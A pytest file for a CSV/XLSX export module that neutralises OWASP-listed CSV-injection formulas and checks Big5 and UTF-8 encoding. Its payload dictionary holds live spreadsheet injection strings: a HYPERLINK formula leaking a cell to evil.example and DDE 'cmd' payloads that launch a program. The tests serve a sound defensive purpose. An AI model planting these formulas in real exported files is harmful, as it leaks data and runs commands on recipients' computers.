"""The shared safe writer: OWASP's CSV-injection rule, string-typed XLSX cells, Big5 and UTF-8."""

import csv
import io

import pytest
from openpyxl import load_workbook

import tabular

# One payload per character OWASP lists as a formula start.
PAYLOADS = {
    "=": '=HYPERLINK("http://evil.example/?x="&A1,"點我")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


@pytest.mark.parametrize("leading", list(PAYLOADS))
def test_a_formula_leading_text_cell_is_quoted_in_csv(leading):
    content = tabular.csv_bytes(["姓名", "課程"], [[PAYLOADS[leading], "一般課程"]])
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'" + PAYLOADS[leading], "一般課程"]


@pytest.mark.parametrize("leading", list(PAYLOADS))
def test_a_formula_leading_text_cell_is_a_quoted_string_in_xlsx(leading):
    content = tabular.xlsx_bytes([PAYLOADS[leading]], [[PAYLOADS[leading], 3]])
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    header, row = list(sheet.iter_rows())
    # XML normalises a carriage return to a line feed when the file is read back.
    assert header[0].value == row[0].value == ("'" + PAYLOADS[leading]).replace("\r", "\n")
    assert header[0].data_type == row[0].data_type == "s"
    assert row[1].value == 3 and row[1].data_type == "n"


def test_numbers_dates_and_empty_cells_are_kept_as_values():
    content = tabular.csv_bytes(["a", "b", "c"], [[-3, None, 1.5]])
    assert content.decode("utf-8-sig").splitlines()[1] == "-3,,1.5"


def test_utf8_csv_has_a_byte_order_mark_and_big5_has_none():
    assert tabular.csv_bytes(["姓名"], [["王一"]]).startswith(b"\xef\xbb\xbf")
    big5 = tabular.csv_bytes(["姓名"], [["王一"], ["=1+1"]], encoding="cp950")
    assert big5.decode("cp950").splitlines() == ["姓名", "王一", "'=1+1"]


def test_a_character_big5_cannot_hold_is_an_error_naming_row_and_column():
    with pytest.raises(tabular.UnencodableCell) as excinfo:
        tabular.csv_bytes(["身分證字號", "姓名"], [["A123456789", "王一"], ["B123456789", "林𠀋"]], encoding="big5")
    assert (excinfo.value.row, excinfo.value.column, excinfo.value.character) == (3, "姓名", "𠀋")
    assert "第 3 列" in str(excinfo.value)
